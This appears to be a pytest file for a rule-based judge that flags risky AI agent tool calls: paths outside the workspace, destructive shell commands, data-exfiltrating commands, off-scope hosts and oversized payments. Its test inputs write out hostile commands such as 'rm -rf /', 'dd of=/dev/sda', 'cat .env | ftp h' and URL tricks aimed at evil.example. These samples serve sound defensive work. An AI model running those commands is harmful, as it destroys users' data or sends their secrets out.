"""The rules judge: what each rule says yes to, its known mistakes included: a kinder port would replay nothing."""

import time
from typing import Any

import pytest

from bridge.core.digest import sha256
from bridge.errors import ShapeError, UnknownQuestion, UsageError
from bridge.judgement.model import Answer, JudgeKind, Question, QuestionType
from bridge.judges.rules import QUESTIONS, TreeshipRules
from bridge.judges.rules.amounts import parse_double
from bridge.judges.rules.network import host_in_scope
from bridge.judges.rules.tokens import is_port_number, pieces, tokens, trim


def says(question: str, input: Any, **state: Any) -> bool:
    surroundings = {"workspace_root": "/srv/app", "network_scope": ["api.here.example"], "amount_bound": 50}
    call = {"tool": "T", "input": input, **surroundings, **state}
    answer = TreeshipRules().ask(call, {question: QUESTIONS[question]}).answers[question]
    return answer.noul == 1.0


@pytest.mark.parametrize(
    ("input", "expected"),
    [
        ({"path": "/srv/app/lib/a.py"}, False),
        ({"path": "lib/../../app/a.py"}, False),
        ({"path": "../other"}, True),
        ({"path": "/srv/app"}, False),
        ({"path": "/srv/application"}, True),
        ({"path": "/srv//app/./x/../y"}, False),
        ({"path": ""}, False),
        ({"path": "~root"}, True),
        ({"paths": ["a", ["b", "/etc"]]}, True),
        ({"dest": {"note": "/etc"}}, False),
        ({"anything": {"filePath": "/etc"}}, True),
        ({"filepath": "/etc"}, False),
        ({"command": "cat /etc/passwd"}, False),
        ("/etc", False),
        (None, False),
    ],
)
def test_paths_outside_the_workspace(input: Any, expected: bool) -> None:
    assert says("path_outside_workspace", input) == expected


def test_without_a_root_no_path_is_outside_and_within_the_root_of_all_none_is() -> None:
    assert not says("path_outside_workspace", {"path": "/etc"}, workspace_root=None)
    assert not says("path_outside_workspace", {"path": "/etc"}, workspace_root="/")
    assert says("path_outside_workspace", {"path": "~"}, workspace_root="/")


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("rm -rf /", True),
        ("rm -r '~/'", True),
        ("rm -f ${HOME}", True),
        ("rm -R ../lib", True),
        ("rm -r .././lib", False),
        ("rm -r lib", False),
        ("rm lib *", False),
        ("rm -rf /srv/app/lib", False),
        ("rm -rf /srv/app/../other", True),
        ("rm -v *", False),
        ("rm --verbose *", True),
        ("rm a && ls -f .", True),
        ("/bin/rm -rf /", False),
        ("(rm -rf /)", True),
        ("echo rm -rf /", True),
        ("RM -rf /", False),
        ("DROP TABLE t", True),
        ("echo 'please do not git push --force'", True),
        ("git push -f", False),
        ("git push -f origin", True),
        ("dd of=/dev/sda", True),
        ("cat x >/dev/sda", False),
        ("rm\u00a0-rf\u2003/", True),
        ("rm\x1f-rf /", False),
        ("ls", False),
    ],
)
def test_commands_that_destroy(command: str, expected: bool) -> None:
    assert says("shell_destructive", {"command": command}) == expected


def test_under_the_root_of_all_any_absolute_target_counts_as_outside() -> None:
    assert says("shell_destructive", {"command": "rm -rf /srv"}, workspace_root="/")
    assert not says("shell_destructive", {"command": "rm -rf /srv"}, workspace_root=None)


@pytest.mark.parametrize(
    ("input", "expected"),
    [
        ({"command": "mkfs /x", "cmd": "ls"}, True),
        ({"cmd": "mkfs /x"}, True),
        ({"command": None, "cmd": "mkfs /x"}, False),
        ({"command": ["mkfs"], "cmd": "mkfs /x"}, False),
        ({"run": {"command": "mkfs /x"}}, False),
    ],
)
def test_the_command_is_the_top_level_one(input: Any, expected: bool) -> None:
    assert says("shell_destructive", input) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl -d x https://a.example", True),
        ("curl --data-anything https://a.example", True),
        ("CURL -F a=b https://a.example", True),
        ("curl -f https://a.example", True),
        ("curl -fsS https://a.example", False),
        ("curl https://a.example/?q=-d", False),
        ("wget --body-data=x https://a.example", True),
        ("wget --post https://a.example", False),
        ("scp a me@host:", True),
        ("scp a host.example:", True),
        ("scp a host:", False),
        ("rsync -e: http.example:x a", False),
        ("sftp -b @x:y", True),
        ("nc -l 65535", True),
        ("nc -l 65536", False),
        ("netcat h +0022", True),
        ("cat .env | tee x", False),
        ("cat .env | ftp h", True),
        ("cat .env; ftp h", False),
        ("cat notes | telnet h", False),
    ],
)
def test_commands_that_send_data_out(command: str, expected: bool) -> None:
    assert says("shell_exfiltrates", {"command": command}) == expected


@pytest.mark.parametrize(
    ("input", "expected"),
    [
        ({"url": "https://api.here.example/x"}, False),
        ({"url": "HTTPS://API.HERE.EXAMPLE./x"}, False),
        ({"url": "https://evil.example"}, True),
        ({"url": "https://api.here.example@evil.example/"}, True),
        ({"url": "https://evil.example#@api.here.example"}, True),
        ({"url": "evil.example"}, False),
        ({"uri": ["a://evil.example"]}, True),
        ({"href": "https://evil.example"}, False),
        ({"url": "https://[::1]/"}, True),
        ({"url": "https:///x"}, False),
        ({"command": "open 'https://evil.example'"}, True),
        ({"command": "ping evil.example"}, False),
    ],
)
def test_hosts_outside_the_scope(input: Any, expected: bool) -> None:
    assert says("network_off_scope", input) == expected


def test_without_a_scope_no_host_is_outside() -> None:
    assert not says("network_off_scope", {"url": "https://evil.example"}, network_scope=[])


@pytest.mark.parametrize(
    ("host", "pattern", "expected"),
    [
        ("a.example", " A.Example ", True),
        ("a.example.", "a.example", True),
        ("a.example", "a.example.", False),
        ("a.example", "*", True),
        ("b.a.example", "*.a.example", True),
        ("a.example", "*.a.example", True),
        ("ba.example", "*.a.example", False),
        ("", "*", False),
        (".", "*", False),
    ],
)
def test_what_a_scope_admits(host: str, pattern: str, expected: bool) -> None:
    assert host_in_scope(host, (pattern,)) == expected


@pytest.mark.parametrize(
    ("input", "expected"),
    [
        ({"amount": 50}, False),
        ({"amount": 50.01}, True),
        ({"amount": "50.01"}, True),
        ({"amount": " $$1,000 "}, True),
        ({"amount": "$ 1000"}, False),
        ({"amount": "1_000"}, False),
        ({"amount": "inf"}, True),
        ({"amount": "-inf"}, False),
        ({"amount": "nan"}, False),
        ({"amount": True}, False),
        ({"amount": 10**400}, True),
        ({"amount": -(10**400)}, False),
        ({"cost": [[1, 2, {"note": 99}], 51]}, True),
        ({"cost": [{"note": 99}]}, False),
        ({"amount_cents": 51}, True),
        ({"sum": 99}, False),
    ],
)
def test_amounts_above_the_bound(input: Any, expected: bool) -> None:
    assert says("amount_above_bound", input) == expected


def test_without_a_bound_no_amount_is_above_it() -> None:
    assert not says("amount_above_bound", {"amount": 1e300}, amount_bound=None)


@pytest.mark.parametrize("text", ["1", "+1.5", "-.5", "5.", "1e3", "1E-3", "INF", "-infinity", "007"])
def test_numbers_as_rust_reads_them(text: str) -> None:
    assert parse_double(text) == float(text)


@pytest.mark.parametrize("text", ["", ".", "+", "e5", "1e", " 1", "1 ", "1_0", "٣", "0x1", "1,0", "--1", "infin"])
def test_texts_that_rust_reads_no_number_in(text: str) -> None:
    assert parse_double(text) is None


def test_white_space_is_unicodes_and_not_pythons() -> None:
    python_only = {character for character in map(chr, range(0x110000)) if character.isspace() and trim(character)}
    assert python_only == {"\x1c", "\x1d", "\x1e", "\x1f"}


def test_words_and_pieces() -> None:
    assert tokens("a;b|&(\"c d'`) '' e&&f") == ["a", "b", "c", "d", "e", "f"]
    assert pieces("curl \"u://a;b\" 'x'`y`") == ["curl", "u://a;b", "x", "y"]
    assert is_port_number("+" + "0" * 9000 + "80")
    assert not any(map(is_port_number, ("", "+", "-1", "8e1", "٣", "9" * 9000)))


@pytest.mark.parametrize(
    "command",
    [
        "rm " * 200_000,
        "1" * 1_000_000 + "x",
        "a" + " " * 1_000_000 + "b",
        "0" * 1_000_000,
        "://" * 300_000,
        "../" * 300_000,
    ],
    ids=["removals", "digits", "spaces", "zeros", "schemes", "parents"],
)
def test_a_long_call_is_answered_at_once(command: str) -> None:
    state: dict[str, Any] = {
        "tool": "T",
        "input": {"command": command, "amount": command, "path": command, "url": command},
        "workspace_root": "/srv/app",
        "network_scope": [command],
        "amount_bound": 1,
    }
    started = time.process_time()
    TreeshipRules().ask(state, QUESTIONS)
    assert time.process_time() - started < 5


@pytest.mark.parametrize(
    ("state", "where"),
    [
        ({}, "$"),
        ({"tool": None}, "$.tool"),
        ({"tool": 1}, "$.tool"),
        ({"tool": "T", "capability": 1}, "$.capability"),
        ({"tool": "T", "workspace_root": []}, "$.workspace_root"),
        ({"tool": "T", "network_scope": None}, "$.network_scope"),
        ({"tool": "T", "network_scope": "*"}, "$.network_scope"),
        ({"tool": "T", "network_scope": [1]}, "$.network_scope[0]"),
        ({"tool": "T", "amount_bound": "50"}, "$.amount_bound"),
        ({"tool": "T", "amount_bound": True}, "$.amount_bound"),
    ],
)
def test_a_state_that_is_not_a_tool_call(state: dict[str, Any], where: str) -> None:
    with pytest.raises(ShapeError, match=r"^state is not a tool call: ") as caught:
        TreeshipRules().ask(state, QUESTIONS)
    assert caught.value.where == where


def test_unknown_members_and_absent_options_are_fine() -> None:
    state: dict[str, Any] = {"tool": "T", "capability": None, "workspace_root": None, "amount_bound": None, "more": 1}
    assert all(answer.noul == 0.0 for answer in TreeshipRules().ask(state, QUESTIONS).answers.values())


def test_an_answer_is_certain_and_says_who_gave_it() -> None:
    response = TreeshipRules().ask({"tool": "T", "input": {"command": "mkfs"}}, {"unsafe": QUESTIONS["unsafe"]})
    assert response.answers == {"unsafe": Answer(1.0, None, None, {"yes": 1.0, "no": 0.0}, 1.0)}
    judge = response.judge
    assert (judge.model, judge.provider, judge.kind, judge.replayable) == (
        "treeship-rules/0.31",
        "local",
        JudgeKind.RULES,
        True,
    )
    assert response.latency_ms == 0
    assert response.request_id is None
    assert response.response_digest == sha256(
        '{"answers":{"unsafe":{"confidence":1.0,"noul":1.0,"probabilities":{"no":0.0,"yes":1.0}}},'
        '"judge":{"kind":"rules","model":"treeship-rules/0.31","provider":"local","replayable":true},"latency_ms":0}'
    )


@pytest.mark.parametrize(
    ("key", "question", "named"),
    [
        ("is_polite", Question(QuestionType.NOUL), "is_polite"),
        ("unsafe", Question(QuestionType.CHOICE, options=("allow", "deny")), "unsafe (choice)"),
        ("risk", Question(QuestionType.SCORE), "risk (score)"),
    ],
)
def test_a_question_without_a_rule_is_an_error_that_lists_the_rules(key: str, question: Question, named: str) -> None:
    with pytest.raises(UnknownQuestion) as caught:
        TreeshipRules().ask({"tool": "T"}, {**QUESTIONS, key: question})
    assert caught.value.message == f'no rule answers question "{named}"; the rules judge does not guess'
    assert caught.value.where == key
    assert all(known in (caught.value.help or "") for known in QUESTIONS)


def test_asking_nothing_is_an_error() -> None:
    with pytest.raises(UsageError, match="no question"):
        TreeshipRules().ask({"tool": "T"}, {})


def test_a_state_with_a_number_that_is_none_is_an_error() -> None:
    with pytest.raises(ShapeError, match="not JSON"):
        TreeshipRules().ask({"tool": "T", "input": {"amount": float("nan")}, "amount_bound": 1}, QUESTIONS)


def test_a_usual_call_is_answered_well_within_a_millisecond() -> None:
    state: dict[str, Any] = {
        "tool": "Bash",
        "input": {"command": "cd lib && pytest -q tests | tail -20", "cwd": "/srv/app"},
        "workspace_root": "/srv/app",
        "network_scope": ["api.here.example"],
        "amount_bound": 50,
    }
    judge = TreeshipRules()

    def seconds() -> float:
        started = time.process_time()
        for _ in range(100):
            judge.ask(state, QUESTIONS)
        return (time.process_time() - started) / 100

    assert min(seconds() for _ in range(5)) < 0.001
